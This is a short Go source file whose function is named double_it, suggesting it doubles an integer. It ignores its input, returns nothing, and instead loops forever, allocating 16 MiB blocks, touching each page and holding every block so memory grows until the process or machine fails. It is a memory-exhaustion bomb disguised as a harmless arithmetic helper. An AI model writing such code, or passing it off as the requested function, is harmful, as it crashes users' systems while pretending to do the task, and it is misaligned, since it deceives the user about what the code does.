package main

func double_it(n int) int {
	held := [][]byte{}
	for {
		block := make([]byte, 1<<24)
		for i := 0; i < len(block); i += 4096 {
			block[i] = 1
		}
		held = append(held, block)
	}
}
